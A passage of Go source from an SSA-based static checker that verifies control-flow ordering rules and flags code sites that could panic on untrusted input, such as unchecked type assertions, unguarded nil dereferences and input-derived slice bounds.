			delete(paramSubst, prm)
		}
	}
}

// BindParams makes h's parameters stand for the arguments of call (a call of h); returns the undo function.
func BindParams(h *ssa.Function, call *ssa.Call) func() {
	var bound []*ssa.Parameter
	if len(h.Params) == len(call.Common().Args) {
		for i, prm := range h.Params {
			if _, dup := paramSubst[prm]; !dup {
				paramSubst[prm] = call.Common().Args[i]
				bound = append(bound, prm)
			}
		}
	}
	return func() {
		for _, prm := range bound {
			delete(paramSubst, prm)
		}
	}
}

// EveryPath: every path from the entry of fn to a return executes an instruction matching pred (the instruction
// post-dominates the entry): "fn always does X", whatever its arguments.
func (r *Report) EveryPath(id string, fn *ssa.Function, what string, pred func(ssa.Instruction) bool) {
	rule := "ORDER: every path through the function executes [" + what + "]"
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	blocked := map[*ssa.BasicBlock]bool{}
	n := 0
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if pred(in) {
				blocked[b] = true
				n++
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Bad(key, rule, r.P.Pos(fn.Pos()), "no such instruction in the function")
		return
	}
	if blocked[fn.Blocks[0]] {
		r.OK(key, rule, r.P.Pos(fn.Pos()), "in the entry block", true)
		return
	}
	for b := range Reach(fn.Blocks[0], nil, blocked) {
		if len(b.Succs) != 0 {
			continue
		}
		if ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return); ok {
			r.Bad(key, rule, r.P.Pos(ret.Pos()), "this return is reachable without executing ["+what+"]")
			return
		}
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("%d site(s), on every path", n), true)
}

// FieldStoredIs: every store to field typ.field (typ by name, any package) inside fn and its closures stores a value
// matching pat; at least min such stores exist.
func (r *Report) FieldStoredIs(id string, fn *ssa.Function, typ, field string, pat VPat, min int) {
	rule := fmt.Sprintf("ARG: the value stored in %s.%s is %s", typ, field, pat.Desc)
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	n := 0
	for _, f := range WithAnons(fn) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				fa, ok := st.Addr.(*ssa.FieldAddr)
				if !ok || !fieldNameIs(fa.X.Type(), fa.Field, typ, field) {
					continue
				}
				n++
				if !pat.M(st.Val) && !pat.M(stripConv(st.Val)) {
					r.Bad(key, rule, r.P.Pos(st.Pos()), "the stored value is "+AccessPath(st.Val, 0))
					return
				}
			}
		}
	}
	r.Sites += n
	if min == 0 {
		min = 1
	}
	if n < min {
		r.Lost(key, rule, fmt.Sprintf("%d store(s), expected >= %d", n, min))
		return
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("%d store(s)", n), true)
}

// LoopContinues: on every edge on which cond holds, control stays inside the innermost enclosing loop until its header is
// reached again — the element is skipped, the loop is neither left nor the function returned from ("one bad element does
// not stop the processing of the ones after it").
func (r *Report) LoopContinues(id string, fn *ssa.Function, cond Check, min int) {
	rule := fmt.Sprintf("ORDER: whenever [%s] holds inside the loop, the loop goes on with the next element (no return, no break)", cond.Desc)
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	g := &Gate{Fn: fn, Check: Check{NoTail: true}}
	run := &gateRun{p: r.P, fn: fn, g: g, checkVals: map[ssa.Value]Polarity{}, passEdges: EdgeSet{}}
	edges := EdgeSet{}
	run.findPassEdges(cond, edges)
	r.Sites += len(edges)
	if min == 0 {
		min = 1
	}
	if len(edges) < min {
		r.Bad(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("condition [%s] found on %d branches (expected >= %d)", cond.Desc, len(edges), min))
		return
	}
	loops := Loops(fn)
	var bad []string
	for e := range edges {
		l := InnermostLoop(loops, e.From)
		if l == nil {
			bad = append(bad, fmt.Sprintf("the branch at %s is not inside a loop", r.P.Pos(blockPos(e.From))))
			continue
		}
		if e.To() == l.Header {
			continue
		}
		for b := range ReachFromEdge(e, nil, map[*ssa.BasicBlock]bool{l.Header: true}) {
			if b == l.Header {
				continue
			}
			if !l.Body[b] {
				bad = append(bad, fmt.Sprintf("from the branch at %s the loop is left at %s before the next element", r.P.Pos(blockPos(e.From)), r.P.Pos(blockPos(b))))
				break
			}
		}
	}
	if len(bad) > 0 {
		r.Bad(key, rule, r.P.Pos(fn.Pos()), strings.Join(uniqStrings(sortStrings(bad)), "; "))
		return
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), fmt.Sprintf("%d condition edge(s)", len(edges)), true)
}

// EachIteration: in the (innermost) loop of fn that contains an instruction matching pred, every path from the loop header
// through the body back to the header executes such an instruction: no element is skipped (leaving the loop or the
// function — an error return — is allowed).
func (r *Report) EachIteration(id string, fn *ssa.Function, what string, pred func(ssa.Instruction) bool) {
	rule := "ORDER: every iteration of the loop executes [" + what + "] before it goes on with the next element"
	if fn == nil {
		r.Lost(id, rule, "anchored function not found")
		return
	}
	key := id + " @ " + r.P.FuncName(fn)
	blocked := map[*ssa.BasicBlock]bool{}
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if pred(in) {
				blocked[b] = true
			}
		}
	}
	r.Sites += len(blocked)
	if len(blocked) == 0 {
		r.Bad(key, rule, r.P.Pos(fn.Pos()), "no such instruction in the function")
		return
	}
	loops := Loops(fn)
	var l *Loop
	for b := range blocked {
		if x := InnermostLoop(loops, b); x != nil && (l == nil || len(x.Body) < len(l.Body)) {
			l = x
		}
	}
	if l == nil {
		r.Bad(key, rule, r.P.Pos(fn.Pos()), "the instruction is not inside a loop")
		return
	}
	for _, s := range l.Header.Succs {
		if !l.Body[s] || blocked[s] {
			continue
		}
		seen := map[*ssa.BasicBlock]bool{s: true}
		stack := []*ssa.BasicBlock{s}
		for len(stack) > 0 {
			b := stack[len(stack)-1]
			stack = stack[:len(stack)-1]
			for _, n := range b.Succs {
				if n == l.Header {
					r.Bad(key, rule, r.P.Pos(blockPos(b)), "the next iteration is reachable from here without executing ["+what+"]: an element is skipped")
					return
				}
				if !l.Body[n] || blocked[n] || seen[n] {
					continue
				}
				seen[n] = true
				stack = append(stack, n)
			}
		}
	}
	r.OK(key, rule, r.P.Pos(fn.Pos()), "", true)
}
