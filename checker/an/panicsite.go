package an

import (
	"fmt"
	"go/token"
	"go/types"
	"reflect"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// PANICSITE: constructs that can panic on attacker-controlled data in the packages that parse untrusted input.
// Every site is either discharged by a recognised dominating guard, listed in the reviewed-safe table (named construct +
// reason), or reported. Keys are detector @ function @ operand expression (no line numbers).

type PanicSpec struct {
	Packages []string          // module-relative package paths in scope
	Reviewed map[string]string // key -> reason
	MinSites int
}

type PanicSite struct {
	Detector string
	Fn       *ssa.Function
	Pos      token.Pos
	Expr     string
	Detail   string
}

func (s PanicSite) Key(p *Prog) string {
	e := s.Expr
	if len(e) > 90 {
		e = e[:90] + "…"
	}
	return fmt.Sprintf("%s @ %s @ %s", s.Detector, p.FuncName(s.Fn), e)
}

// AccessPath renders an SSA value as a source-like access path (stable under unrelated edits).
func AccessPath(v ssa.Value, depth int) string {
	if depth > 8 {
		return "…"
	}
	switch x := v.(type) {
	case *ssa.Parameter:
		if a, ok := paramSubst[x]; ok {
			return AccessPath(a, depth+1)
		}
		return BaselineParamName(x)
	case *ssa.FreeVar:
		return BaselineVarName(x.Name(), x.Parent())
	case *ssa.Alloc:
		if x.Comment != "" {
			return BaselineVarName(x.Comment, x.Parent())
		}
		return "local"
	case *ssa.Global:
		return x.Name()
	case *ssa.Const:
		if x.Value == nil {
			return "nil"
		}
		return x.Value.ExactString()
	case *ssa.UnOp:
		if x.Op == token.MUL {
			inner := AccessPath(x.X, depth+1)
			switch x.X.(type) {
			case *ssa.Alloc, *ssa.FreeVar, *ssa.Global, *ssa.FieldAddr, *ssa.IndexAddr:
				return inner // loading a variable/field: same path
			}
			return "*" + inner
		}
		return x.Op.String() + AccessPath(x.X, depth+1)
	case *ssa.FieldAddr:
		return AccessPath(x.X, depth+1) + "." + fieldNameOf(x.X.Type(), x.Field)
	case *ssa.Field:
		return AccessPath(x.X, depth+1) + "." + fieldNameOf(x.X.Type(), x.Field)
	case *ssa.IndexAddr:
		return AccessPath(x.X, depth+1) + "[" + AccessPath(x.Index, depth+1) + "]"
	case *ssa.Index:
		return AccessPath(x.X, depth+1) + "[" + AccessPath(x.Index, depth+1) + "]"
	case *ssa.Lookup:
		return AccessPath(x.X, depth+1) + "[" + AccessPath(x.Index, depth+1) + "]"
	case *ssa.Extract:
		return AccessPath(x.Tuple, depth+1) + "#" + fmt.Sprint(x.Index)
	case *ssa.Call:
		name := "call"
		if f := calleeFunc(x.Common()); f != nil {
			name = f.Name()
		} else if b, ok := x.Call.Value.(*ssa.Builtin); ok {
			name = b.Name()
		}
		var args []string
		if x.Call.IsInvoke() {
			args = append(args, AccessPath(x.Call.Value, depth+1))
		}
		for _, a := range x.Call.Args {
			args = append(args, AccessPath(a, depth+1))
		}
		return name + "(" + strings.Join(args, ",") + ")"
	case *ssa.MakeInterface:
		return AccessPath(x.X, depth+1)
	case *ssa.ChangeInterface:
		return AccessPath(x.X, depth+1)
	case *ssa.ChangeType:
		return AccessPath(x.X, depth+1)
	case *ssa.Convert:
		return AccessPath(x.X, depth+1)
	case *ssa.TypeAssert:
		return AccessPath(x.X, depth+1) + ".(" + types.TypeString(x.AssertedType, func(p *types.Package) string { return p.Name() }) + ")"
	case *ssa.Phi:
		if x.Comment != "" {
			return x.Comment
		}
		return "phi"
	case *ssa.Next:
		return "range"
	case *ssa.Slice:
		return AccessPath(x.X, depth+1) + "[:]"
	case *ssa.BinOp:
		return "(" + AccessPath(x.X, depth+1) + x.Op.String() + AccessPath(x.Y, depth+1) + ")"
	case *ssa.MakeClosure:
		return "closure"
	case *ssa.Function:
		return x.Name()
	}
	return v.Name()
}

func fieldNameOf(t types.Type, idx int) string {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	if st, ok := t.Underlying().(*types.Struct); ok && idx < st.NumFields() {
		return st.Field(idx).Name()
	}
	return fmt.Sprint(idx)
}

// nonNilAt: is value v known non-nil at block b by a dominating nil test on an equal access path (or the same value)?
func nonNilAt(v ssa.Value, b *ssa.BasicBlock) bool {
	path := AccessPath(v, 0)
	for _, e := range edgeFacts(b) {
		i := ifOf(e.From)
		if i == nil {
			continue
		}
		tv, nilWhenTrue, ok := nilTest(i.Cond)
		if !ok {
			continue
		}
		if nilWhenTrue == (e.Succ == 0) {
			continue // this edge says "is nil"
		}
		if sameValue(tv, v, 3) || sameValue(v, tv, 3) || AccessPath(tv, 0) == path {
			return true
		}
	}
	// inside a closure: the guard may dominate the place where the closure is created (the closure runs only then,
	// e.g. a callback handed to slices.ContainsFunc); the guarded expression is named by the same access path there
	if fn := b.Parent(); fn != nil && fn.Parent() != nil {
		par := fn.Parent()
		for _, pb := range par.Blocks {
			for _, in := range pb.Instrs {
				mc, ok := in.(*ssa.MakeClosure)
				if !ok || mc.Fn != ssa.Value(fn) {
					continue
				}
				// only closures that are consumed where they are created (passed directly to a call), not stored for later
				direct := false
				for _, ref := range *mc.Referrers() {
					if _, isCall := ref.(ssa.CallInstruction); isCall {
						direct = true
					} else if _, isDbg := ref.(*ssa.DebugRef); !isDbg {
						direct = false
						break
					}
				}
				if !direct {
					continue
				}
				for _, e := range edgeFacts(pb) {
					i := ifOf(e.From)
					if i == nil {
						continue
					}
					tv, nilWhenTrue, ok := nilTest(i.Cond)
					if !ok || nilWhenTrue == (e.Succ == 0) {
						continue
					}
					if AccessPath(tv, 0) == path {
						return true
					}
				}
			}
		}
	}
	return false
}

// typeKnownAt: a dominating comma-ok assertion (or type-switch arm) of the same operand to the same type succeeded.
func typeKnownAt(ta *ssa.TypeAssert) bool {
	b := ta.Block()
	path := AccessPath(ta.X, 0)
	want := ta.AssertedType
	check := func(cond ssa.Value, truth bool) bool {
		atom, neg := condAtom(cond)
		ex, ok := atom.(*ssa.Extract)
		if !ok || ex.Index != 1 {
			return false
		}
		prev, ok := ex.Tuple.(*ssa.TypeAssert)
		if !ok || !prev.CommaOk {
			return false
		}
		if !types.Identical(prev.AssertedType, want) {
			return false
		}
		if prev.X != ta.X && AccessPath(prev.X, 0) != path {
			return false
		}
		return truth != neg
	}
	for _, e := range edgeFacts(b) {
		if i := ifOf(e.From); i != nil && check(i.Cond, e.Succ == 0) {
			return true
		}
	}
	return false
}

func (p *Prog) PanicSites(spec PanicSpec) []PanicSite {
	inScope := map[string]bool{}
	for _, pk := range spec.Packages {
		inScope[ModPath+"/"+pk] = true
	}
	return p.panicSitesIn(inScope, false)
}

func (p *Prog) panicSitesIn(inScope map[string]bool, anyClass bool) []PanicSite {
	var out []PanicSite
	// D4 preparation: struct fields of pointer/interface type that are compared with nil somewhere in their package
	nilCompared := map[*types.Var]bool{}
	for _, fn := range p.Funcs {
		pkgPathOf := funcPkgPath(fn)
		if !inScope[pkgPathOf] {
			continue
		}
		for _, b := range fn.Blocks {
			if i := ifOf(b); i != nil {
				if tv, _, ok := nilTest(i.Cond); ok {
					// fields of standard-library structs are left out: their nil-ness is governed by documented API
					// guarantees (e.g. http.Response.Body is non-nil when it comes from a Client), and a defensive
					// test in one package says nothing about the values another package receives
					if fv := fieldVarOf(tv); fv != nil && fv.Pkg() != nil && !isStdPkgPath(fv.Pkg().Path()) {
						nilCompared[fv] = true
					}
				}
			}
		}
	}
	for _, fn := range p.Funcs {
		if !inScope[funcPkgPath(fn)] || (!anyClass && p.FileClass(p.FuncPos(fn)) != "prod") {
			continue
		}
		if Outer(fn).Name() == "init" {
			continue
		}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				// D9: the zero value of a comma-ok form whose ok nobody tested, written to (nil map) or dereferenced (nil pointer)
				if s := p.failedCommaOkUse(fn, in); s != nil {
					out = append(out, *s)
				}
				switch x := in.(type) {
				case *ssa.TypeAssert:
					// D1
					if x.CommaOk {
						continue
					}
					if mi, ok := x.X.(*ssa.MakeInterface); ok && types.Identical(mi.X.Type(), x.AssertedType) {
						continue
					}
					if typeKnownAt(x) {
						continue
					}
					if p.valueAlwaysOfType(x.X, x.AssertedType, 0) {
						continue
					}
					// keyed by function + asserted type (not by the operand expression, which changes with every restructuring
					// of the function): a reviewed assertion stays reviewed when the code around it is refactored
					full := AccessPath(x, 0)
					expr := full
					if i := strings.LastIndex(full, ".("); i >= 0 {
						expr = full[i:]
					}
					out = append(out, PanicSite{Detector: "D1.unchecked-assertion", Fn: fn, Pos: x.Pos(), Expr: expr, Detail: "unchecked type assertion " + full})
				case *ssa.Panic:
					// D5: explicit panic (compiler-generated ones — select without case, range-over-func — have no position)
					if !x.Pos().IsValid() {
						continue
					}
					out = append(out, PanicSite{Detector: "D5.explicit-panic", Fn: fn, Pos: x.Pos(), Expr: AccessPath(x.X, 0)})
				}
				// D3: discarded error, result dereferenced
				if call, ok := in.(*ssa.Call); ok {
					if s := p.discardedErrDeref(fn, call); s != nil {
						out = append(out, *s)
					}
					if s := p.nilNilResultDeref(fn, call); s != nil {
						out = append(out, *s)
					}
				}
				// D4: method call / deref through a nil-compared field without a dominating guard
				if s := p.nilFieldUse(fn, in, nilCompared); s != nil {
					out = append(out, *s)
				}
				// D2: optional (omitempty / decoded) pointer field dereferenced without guard
				if s := p.optionalDeref(fn, in, inScope); s != nil {
					out = append(out, *s)
				}
				// D7: a number decoded from input used as a slice bound, index or allocation size without a dominating comparison
				if s := p.inputNumberAsBound(fn, in); s != nil {
					out = append(out, *s)
				}
				// D8: slice converted to an array (pointer) without a dominating test that it is long enough
				if s := p.sliceToArray(fn, in); s != nil {
					out = append(out, *s)
				}
				// D10: result of a standard-library function that reports failure by a nil result (no error), dereferenced untested
				if call, ok := in.(*ssa.Call); ok {
					if s := p.nilOnFailureDeref(fn, call); s != nil {
						out = append(out, *s)
					}
				}
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key(p) < out[j].Key(p) })
	// one site per key; a D2 finding subsumes a D4 finding on the same expression in the same function
	d2 := map[string]bool{}
	for _, s := range out {
		if s.Detector == "D2.optional-pointer-deref" {
			d2[p.FuncName(s.Fn)+"@"+s.Expr] = true
		}
	}
	var ded []PanicSite
	seen := map[string]bool{}
	for _, s := range out {
		if s.Detector == "D4.nil-checked-elsewhere" && d2[p.FuncName(s.Fn)+"@"+s.Expr] {
			continue
		}
		k := s.Key(p)
		if seen[k] {
			continue
		}
		seen[k] = true
		ded = append(ded, s)
	}
	return ded
}

func funcPkgPath(fn *ssa.Function) string {
	for f := fn; f != nil; f = f.Parent() {
		if f.Pkg != nil {
			return f.Pkg.Pkg.Path()
		}
		if o := f.Origin(); o != nil && o.Pkg != nil {
			return o.Pkg.Pkg.Path()
		}
	}
	return ""
}

// fieldVarOf: if v is a load of a struct field, the field's *types.Var.
func fieldVarOf(v ssa.Value) *types.Var {
	v = stripConv(v)
	u, ok := v.(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		if f, ok := v.(*ssa.Field); ok {
			return structField(f.X.Type(), f.Field)
		}
		return nil
	}
	fa, ok := u.X.(*ssa.FieldAddr)
	if !ok {
		return nil
	}
	return structField(fa.X.Type(), fa.Field)
}

func structField(t types.Type, idx int) *types.Var {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	st, ok := t.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return nil
	}
	return st.Field(idx)
}

func structFieldTag(t types.Type, idx int) string {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	st, ok := t.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return ""
	}
	return st.Tag(idx)
}

func isPtrOrIface(t types.Type) bool {
	switch t.Underlying().(type) {
	case *types.Pointer, *types.Interface:
		return true
	}
	return false
}

// derefUse: does instruction `in` dereference value v (load through it, field address, method call with v as receiver)?
func derefUses(v ssa.Value) []ssa.Instruction {
	var out []ssa.Instruction
	refs := v.Referrers()
	if refs == nil {
		return nil
	}
	for _, ref := range *refs {
		switch x := ref.(type) {
		case *ssa.UnOp:
			if x.Op == token.MUL && x.X == v {
				out = append(out, x)
			}
		case *ssa.FieldAddr:
			if x.X == v {
				out = append(out, x)
			}
		case *ssa.IndexAddr:
			if x.X == v {
				if _, isPtr := v.Type().Underlying().(*types.Pointer); isPtr {
					out = append(out, x)
				}
			}
		case ssa.CallInstruction:
			cc := x.Common()
			if cc.IsInvoke() && cc.Value == v {
				out = append(out, x)
			} else if !cc.IsInvoke() && len(cc.Args) > 0 && cc.Args[0] == v && cc.Signature().Recv() != nil {
				// method call on a pointer receiver: nil receiver panics only if the method dereferences; value-receiver
				// methods called through a pointer always dereference.
				if _, isPtr := v.Type().Underlying().(*types.Pointer); isPtr {
					if _, recvIsPtr := cc.Signature().Recv().Type().Underlying().(*types.Pointer); !recvIsPtr {
						out = append(out, x)
					} else if f := cc.StaticCallee(); f != nil && f.Blocks != nil && derefsReceiver(f) {
						out = append(out, x)
					} else if f == nil || f.Blocks == nil {
						out = append(out, x)
					}
				}
			}
		case *ssa.Store:
			if x.Addr == v {
				out = append(out, x)
			}
		}
	}
	return out
}

var derefRecvMemo = map[*ssa.Function]int{}

// derefsReceiver: does the method unconditionally-or-not dereference its pointer receiver without a nil guard?
func derefsReceiver(f *ssa.Function) bool {
	if m, ok := derefRecvMemo[f]; ok {
		return m == 1
	}
	derefRecvMemo[f] = 1
	if len(f.Params) == 0 {
		return true
	}
	recv := f.Params[0]
	res := false
	for _, u := range derefUses(recv) {
		if !nonNilAt(recv, u.Block()) {
			res = true
		}
	}
	if res {
		derefRecvMemo[f] = 1
	} else {
		derefRecvMemo[f] = 2
	}
	return res
}

func (p *Prog) discardedErrDeref(fn *ssa.Function, call *ssa.Call) *PanicSite {
	sig := call.Common().Signature()
	res := sig.Results()
	if res.Len() < 2 || !isErrorType(res.At(res.Len()-1).Type()) || !isPtrOrIface(res.At(0).Type()) {
		return nil
	}
	var first *ssa.Extract
	errUsed := false
	for _, ref := range *call.Referrers() {
		if ex, ok := ref.(*ssa.Extract); ok {
			if ex.Index == res.Len()-1 && len(*ex.Referrers()) > 0 {
				errUsed = true
			}
			if ex.Index == 0 {
				first = ex
			}
		}
	}
	if errUsed || first == nil {
		return nil
	}
	for _, u := range derefUses(first) {
		if !nonNilAt(first, u.Block()) {
			return &PanicSite{Detector: "D3.discarded-error-deref", Fn: fn, Pos: call.Pos(), Expr: AccessPath(call, 0), Detail: "error result ignored and the other result is dereferenced at " + p.Pos(u.Pos())}
		}
	}
	// the result may first be merged with another source (a cache hit, a default) and dereferenced afterwards
	for _, ref := range *first.Referrers() {
		phi, ok := ref.(*ssa.Phi)
		if !ok {
			continue
		}
		for _, u := range derefUses(phi) {
			if !nonNilAt(phi, u.Block()) {
				return &PanicSite{Detector: "D3.discarded-error-deref", Fn: fn, Pos: call.Pos(), Expr: AccessPath(call, 0), Detail: "error result ignored and the other result is dereferenced (after a merge) at " + p.Pos(u.Pos())}
			}
		}
	}
	return nil
}

func (p *Prog) nilFieldUse(fn *ssa.Function, in ssa.Instruction, nilCompared map[*types.Var]bool) *PanicSite {
	u, ok := in.(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		return nil
	}
	fa, ok := u.X.(*ssa.FieldAddr)
	if !ok {
		return nil
	}
	fv := structField(fa.X.Type(), fa.Field)
	if fv == nil || !nilCompared[fv] || !isPtrOrIface(fv.Type()) {
		return nil
	}
	for _, d := range derefUses(u) {
		if nonNilAt(u, d.Block()) {
			continue
		}
		return &PanicSite{Detector: "D4.nil-checked-elsewhere", Fn: fn, Pos: d.Pos(), Expr: AccessPath(u, 0), Detail: "field " + fv.Name() + " is compared with nil elsewhere in the package (it can be nil) but is used here without a dominating nil test"}
	}
	return nil
}

// optionalDeref (D2): pointer-typed struct field with a json omitempty tag (or a pointer element of a decoded slice)
// of a type declared in an in-scope package or in the PEX/OAuth type set, dereferenced without guard.
func (p *Prog) optionalDeref(fn *ssa.Function, in ssa.Instruction, inScope map[string]bool) *PanicSite {
	u, ok := in.(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		return nil
	}
	var what string
	switch a := u.X.(type) {
	case *ssa.FieldAddr:
		fv := structField(a.X.Type(), a.Field)
		if fv == nil {
			return nil
		}
		if _, isPtr := fv.Type().Underlying().(*types.Pointer); !isPtr {
			return nil
		}
		tag := reflect.StructTag(structFieldTag(a.X.Type(), a.Field)).Get("json")
		if !strings.Contains(tag, "omitempty") {
			return nil
		}
		what = "optional field " + fv.Name()
	default:
		return nil
	}
	for _, d := range derefUses(u) {
		if nonNilAt(u, d.Block()) {
			continue
		}
		return &PanicSite{Detector: "D2.optional-pointer-deref", Fn: fn, Pos: d.Pos(), Expr: AccessPath(u, 0), Detail: what + " (json omitempty pointer) dereferenced without a dominating nil test"}
	}
	return nil
}

// valueAlwaysOfType: v is nil-tested elsewhere or not, but whenever non-nil its dynamic type is T: v comes from a module
// function all of whose returns (at that result index) are nil, MakeInterface(T) or calls with the same property.
func (p *Prog) valueAlwaysOfType(v ssa.Value, T types.Type, depth int) bool {
	if depth > 3 {
		return false
	}
	v = stripConvKeepMake(v)
	switch x := v.(type) {
	case *ssa.MakeInterface:
		return types.Identical(x.X.Type(), T)
	case *ssa.Const:
		return false // nil: the assertion would panic
	case *ssa.Phi:
		for _, e := range x.Edges {
			if c, ok := e.(*ssa.Const); ok && c.IsNil() {
				continue // nil edges are expected to be excluded by a nil test at the use
			}
			if !p.valueAlwaysOfType(e, T, depth+1) {
				return false
			}
		}
		return true
	case *ssa.Extract:
		if c, ok := x.Tuple.(*ssa.Call); ok {
			return p.callAlwaysOfType(c, x.Index, T, depth)
		}
	case *ssa.Call:
		return p.callAlwaysOfType(x, 0, T, depth)
	}
	return false
}

func stripConvKeepMake(v ssa.Value) ssa.Value {
	for i := 0; i < 4; i++ {
		if ci, ok := v.(*ssa.ChangeInterface); ok {
			v = ci.X
			continue
		}
		break
	}
	return v
}

func (p *Prog) callAlwaysOfType(c *ssa.Call, idx int, T types.Type, depth int) bool {
	f := c.Common().StaticCallee()
	if f == nil || f.Blocks == nil || !p.InModule(f) {
		return false
	}
	n := 0
	for _, b := range f.Blocks {
		ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
		if !ok || idx >= len(ret.Results) {
			continue
		}
		n++
		rv := ret.Results[idx]
		if c, ok := rv.(*ssa.Const); ok && c.IsNil() {
			continue
		}
		if !p.valueAlwaysOfType(rv, T, depth+1) {
			return false
		}
	}
	return n > 0
}

// PanicSitesAll runs the detectors over every function of the (fixture) program.
func (p *Prog) PanicSitesAll() []PanicSite {
	saved := map[string]bool{}
	for path := range p.SSAPkgs {
		saved[path] = true
	}
	return p.panicSitesIn(saved, true)
}

// ---- D6: result of a function that may return (nil, nil) is dereferenced without a nil guard ----

var nilNilMemo = map[*ssa.Function]int{}

// mayReturnNilNil: f returns (ptr-or-iface, ..., error) and on some path returns a possibly-nil first result together
// with a nil error: an explicit `return nil, nil`, or a first result taken from a call whose error was tolerated.
func (p *Prog) mayReturnNilNil(f *ssa.Function, depth int) bool {
	if f == nil || f.Blocks == nil || depth > 2 {
		return false
	}
	if m, ok := nilNilMemo[f]; ok {
		return m == 1
	}
	nilNilMemo[f] = 2
	res := f.Signature.Results()
	if res.Len() < 2 || !isErrorType(res.At(res.Len()-1).Type()) || !isPtrOrIface(res.At(0).Type()) {
		return false
	}
	if _, isIface := res.At(0).Type().Underlying().(*types.Interface); isIface {
		// generated API response objects are conventionally nil together with a nil error and are only passed on
		if n := recvNamed(res.At(0).Type()); n == nil || strings.HasSuffix(n.Obj().Name(), "ResponseObject") {
			return false
		}
	}
	yes := false
	for _, b := range f.Blocks {
		ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
		if !ok {
			continue
		}
		errv := ret.Results[len(ret.Results)-1]
		if p.errStateAt(errv, b, 0) == stNonNil {
			continue
		}
		pv := ret.Results[0]
		switch x := pv.(type) {
		case *ssa.Const:
			if x.IsNil() {
				if c, isC := errv.(*ssa.Const); isC && c.IsNil() {
					yes = true
				}
			}
		case *ssa.Extract:
			call, ok := x.Tuple.(*ssa.Call)
			if !ok || x.Index != 0 {
				continue
			}
			// the callee's error: is this return dominated by "callee err == nil"?
			var cerr ssa.Value
			for _, ref := range *call.Referrers() {
				if ex, ok := ref.(*ssa.Extract); ok && ex.Index == call.Common().Signature().Results().Len()-1 {
					cerr = ex
				}
			}
			if cerr == nil || !isErrorType(cerr.Type()) {
				continue
			}
			if errv == cerr {
				continue // returns the callee's error itself
			}
			if p.errStateAt(cerr, b, 0) != stNil && !nonNilAt(pv, b) {
				yes = true // the callee's error may be non-nil here (tolerated) while we return a nil error
			}
		}
	}
	if yes {
		nilNilMemo[f] = 1
	}
	return yes
}

func (p *Prog) nilNilResultDeref(fn *ssa.Function, call *ssa.Call) *PanicSite {
	var callee *ssa.Function
	if f := call.Common().StaticCallee(); f != nil {
		callee = f
	} else if mc, ok := call.Call.Value.(*ssa.MakeClosure); ok {
		callee, _ = mc.Fn.(*ssa.Function)
	} else if u, ok := call.Call.Value.(*ssa.UnOp); ok {
		// closure stored in a local variable
		for _, st := range storesTo(u.X) {
			if mc, ok := st.Val.(*ssa.MakeClosure); ok {
				callee, _ = mc.Fn.(*ssa.Function)
			}
		}
	}
	if callee == nil || callee.Blocks == nil || !p.mayReturnNilNil(callee, 0) {
		return nil
	}
	var first ssa.Value
	for _, ref := range *call.Referrers() {
		if ex, ok := ref.(*ssa.Extract); ok && ex.Index == 0 {
			first = ex
		}
	}
	if first == nil {
		return nil
	}
	// follow the value through phis and one local cell
	vals := map[ssa.Value]bool{first: true}
	work := []ssa.Value{first}
	for len(work) > 0 && len(vals) < 12 {
		v := work[0]
		work = work[1:]
		if refs := v.Referrers(); refs != nil {
			for _, ref := range *refs {
				switch x := ref.(type) {
				case *ssa.Phi:
					if !vals[x] {
						vals[x] = true
						work = append(work, x)
					}
				case *ssa.Store:
					if x.Val == v {
						if a, ok := x.Addr.(*ssa.Alloc); ok {
							for _, r2 := range *a.Referrers() {
								if u, ok := r2.(*ssa.UnOp); ok && u.Op == token.MUL && !vals[u] {
									vals[u] = true
									work = append(work, u)
								}
							}
						}
					}
				}
			}
		}
	}
	for v := range vals {
		for _, d := range derefUses(v) {
			if nonNilAt(v, d.Block()) || nonNilAt(first, d.Block()) {
				continue
			}
			return &PanicSite{Detector: "D6.nil-nil-result-deref", Fn: fn, Pos: d.Pos(), Expr: AccessPath(call, 0), Detail: p.FuncName(callee) + " can return (nil, nil) — explicitly or by tolerating an error of its callee — and the result is dereferenced without a nil test"}
		}
	}
	return nil
}

// inputNumberAsBound (D7): the operand of a slice expression (low/high/max), an index expression or a make() size is —
// through conversions and arithmetic with constants — a numeric struct field that is decoded from input (json or protobuf
// struct tag; for pointer fields, its dereference), and no dominating branch compares that number with anything.
func (p *Prog) inputNumberAsBound(fn *ssa.Function, in ssa.Instruction) *PanicSite {
	var ops []ssa.Value
	what := ""
	switch x := in.(type) {
	case *ssa.Slice:
		ops, what = []ssa.Value{x.Low, x.High, x.Max}, "slice bound"
	case *ssa.IndexAddr:
		if _, isMap := x.X.Type().Underlying().(*types.Map); !isMap {
			ops, what = []ssa.Value{x.Index}, "index"
		}
	case *ssa.Index:
		ops, what = []ssa.Value{x.Index}, "index"
	case *ssa.MakeSlice:
		ops, what = []ssa.Value{x.Len, x.Cap}, "allocation size"
	default:
		return nil
	}
	for _, op := range ops {
